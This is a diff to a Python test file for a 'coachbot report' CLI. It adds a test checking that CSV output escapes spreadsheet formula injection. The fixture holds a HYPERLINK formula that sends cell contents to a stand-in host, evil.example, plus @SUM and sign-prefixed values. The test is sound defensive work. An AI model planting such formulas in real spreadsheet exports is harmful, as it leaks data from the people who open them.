@@ -1,4 +1,4 @@
-"""`coachbot report`: the JSON shape and CSV columns of contract.md, the table, the chart."""
+"""`coachbot report`: the JSON shape and CSV columns of docs/report.md, the table, the chart."""
 
 from __future__ import annotations
 
@@ -16,6 +16,7 @@ from adapters.report_render import chart_series
 from bot.services.reports import ProgrammeReports, ReportRequest
 from storage.db import create_engine
 from storage.reports import SqlReportSource
+from tests.reports.org import Org
 from tests.reports.sample import AS_OF, MODULE, sample_org
 
 NULLABLE_INT = {"type": ["integer", "null"]}
@@ -225,3 +226,47 @@ def test_bad_arguments_are_one_clear_line(
     assert code == 2
     assert err.startswith(f"coachbot report: {message}")
     assert "Traceback" not in err
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+
+
+def test_report_csv_neutralises_formula_cells(
+    sqlite_url: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    org = Org()
+    org.person("boss", "Lead")
+    for index in range(3):
+        org.person(f"f{index}", FORMULA, "+1", manager="boss")
+        org.person(f"s{index}", "@SUM(1)", "-2", manager="boss")
+        org.person(f"t{index}", "\tTabbed", "\rReturned", manager="boss")
+    org.session("f0", AS_OF, "sk-l", "skill_development")
+    org.skill("sk-l", "Listening")
+
+    async def load() -> None:
+        engine = create_engine(sqlite_url)
+        try:
+            await org.save(engine)
+        finally:
+            await engine.dispose()
+
+    asyncio.run(load())
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("DATABASE_URL", sqlite_url)
+    monkeypatch.setenv("COACHBOT_MIN_GROUP_SIZE", "3")
+
+    code, out, _ = run(capsys, "--format", "csv")
+
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out)))
+    assert rows[1:] == [
+        ["department", "'\tTabbed", "'\tTabbed", "3", "9", "0", "0.0", "false"],
+        ["department", "'" + FORMULA, "'" + FORMULA, "3", "9", "1", str(1 / 9), "false"],
+        ["department", "'@SUM(1)", "'@SUM(1)", "3", "9", "0", "0.0", "false"],
+        ["team", "'\tTabbed", "'\rReturned", "3", "9", "0", "0.0", "false"],
+        ["team", "'" + FORMULA, "'+1", "3", "9", "1", str(1 / 9), "false"],
+        ["team", "'@SUM(1)", "'-2", "3", "9", "0", "0.0", "false"],
+    ]  # fmt: skip
